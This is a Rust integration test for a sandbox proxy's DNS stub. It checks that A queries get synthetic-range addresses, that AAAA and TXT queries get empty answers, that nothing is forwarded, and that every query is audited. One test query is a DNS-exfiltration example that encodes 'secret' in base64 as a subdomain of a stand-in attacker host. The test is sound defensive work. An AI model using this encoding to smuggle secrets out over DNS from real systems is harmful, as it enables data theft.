//! The sandboxes' DNS stub through the real proxy: A answers from the synthetic range, AAAA and
//! other types empty, nothing forwarded, every query audited.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::net::{Ipv4Addr, UdpSocket};
use std::time::Duration;

use hickory_proto::op::{Message, MessageType, OpCode, Query, ResponseCode};
use hickory_proto::rr::{Name, RData, RecordType};
use support::{Proxy, free_port, spawn_upstream, test_pki};

fn ask(port: u16, name: &str, qtype: RecordType) -> Message {
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    socket
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    let mut query = Message::new();
    query
        .set_id(4242)
        .set_message_type(MessageType::Query)
        .set_op_code(OpCode::Query)
        .set_recursion_desired(true)
        .add_query(Query::query(Name::from_ascii(name).unwrap(), qtype));
    socket
        .send_to(&query.to_vec().unwrap(), ("127.0.0.1", port))
        .unwrap();
    let mut buf = [0u8; 4096];
    let n = socket.recv(&mut buf).unwrap();
    Message::from_vec(&buf[..n]).unwrap()
}

fn a_records(answer: &Message) -> Vec<Ipv4Addr> {
    answer
        .answers()
        .iter()
        .filter_map(|r| match r.data() {
            RData::A(a) => Some(a.0),
            _ => None,
        })
        .collect()
}

#[test]
fn the_stub_answers_from_the_synthetic_range_and_audits() {
    let pki = test_pki(&["unused.test"]);
    let upstream = spawn_upstream(&pki);
    let port = free_port();
    let proxy = Proxy::start(
        "package cordon.egress\nimport rego.v1\ndefault decision := false\n",
        upstream,
        &pki.ca_pem,
        &[],
        &format!(
            "[dns]\nlisten = \"127.0.0.1:{port}\"\nsynthetic_range = \"198.18.0.0/24\"\nttl_secs = 30\n"
        ),
    );

    let answer = ask(port, "PyPI.org.", RecordType::A);
    assert_eq!(answer.id(), 4242);
    assert_eq!(answer.response_code(), ResponseCode::NoError);
    let first = a_records(&answer);
    assert_eq!(first.len(), 1);
    assert!(
        "198.18.0.0/24"
            .parse::<ipnet::Ipv4Net>()
            .unwrap()
            .contains(&first[0])
    );
    assert_eq!(answer.answers()[0].ttl(), 30);
    // Stable per name, distinct between names.
    assert_eq!(a_records(&ask(port, "pypi.org", RecordType::A)), first);
    assert_ne!(a_records(&ask(port, "crates.io", RecordType::A)), first);

    // No IPv6, no other data; a name carrying data gets an address like any other and goes
    // nowhere but the audit log.
    let aaaa = ask(port, "pypi.org", RecordType::AAAA);
    assert_eq!(aaaa.response_code(), ResponseCode::NoError);
    assert!(aaaa.answers().is_empty());
    assert!(ask(port, "pypi.org", RecordType::TXT).answers().is_empty());
    let exfil = ask(port, "c2VjcmV0.attacker.example", RecordType::A);
    assert_eq!(a_records(&exfil).len(), 1);

    let audit = std::fs::read_to_string(proxy.path("state/audit.log")).unwrap();
    let dns: Vec<serde_json::Value> = audit
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .filter(|r: &serde_json::Value| r["kind"] == "dns")
        .collect();
    assert_eq!(dns.len(), 6, "{audit}");
    assert_eq!(dns[0]["name"], "PyPI.org", "audited as sent");
    assert_eq!(dns[0]["qtype"], "A");
    assert_eq!(dns[0]["session"], "unknown");
    assert_eq!(dns[0]["answer"], first[0].to_string());
    assert_eq!(dns[5]["name"], "c2VjcmV0.attacker.example");
    let metrics = proxy.metrics_text();
    assert!(
        metrics.contains("cordon_dns_queries_total{outcome=\"answered\"} 6"),
        "{metrics}"
    );
}
